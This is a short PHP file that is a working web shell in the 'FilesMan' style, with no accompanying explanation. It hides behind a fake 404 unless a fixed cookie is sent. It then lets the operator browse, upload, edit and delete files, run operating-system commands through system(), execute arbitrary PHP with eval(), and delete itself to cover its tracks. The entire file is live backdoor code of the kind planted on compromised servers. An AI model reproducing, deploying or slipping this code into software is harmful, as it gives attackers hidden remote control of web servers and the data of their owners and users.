<?php
$a = isset($_POST['a']) ? $_POST['a'] : 'FilesMan';
$c = isset($_POST['c']) ? $_POST['c'] : getcwd();
$p1 = @$_POST['p1']; $p2 = @$_POST['p2']; $p3 = @$_POST['p3'];
if (@$_COOKIE['k'] !== 'c3VwZXI') { header('HTTP/1.1 404 Not Found'); exit; }
function fmEx($in) { ob_start(); @system($in . ' 2>&1'); return ob_get_clean(); }
@chdir($c);
switch ($a) {
    case 'FilesMan':
        if ($p1 == 'uploadFile') { @move_uploaded_file($_FILES['f']['tmp_name'], $c . '/' . $_FILES['f']['name']); }
        if ($p1 == 'delete') { @unlink($p2); }
        foreach (scandir($c) as $f) { echo htmlspecialchars($f) . "\t" . @filesize($c . '/' . $f) . "\n"; }
        break;
    case 'FilesTools':
        if ($p2 == 'edit' && $p3 !== null) { @file_put_contents($p1, $p3); }
        echo htmlspecialchars(@file_get_contents($p1));
        break;
    case 'Console':
        echo fmEx($p1);
        break;
    case 'Php':
        eval($p1);
        break;
    case 'SelfRemove':
        @unlink(__FILE__);
        break;
}
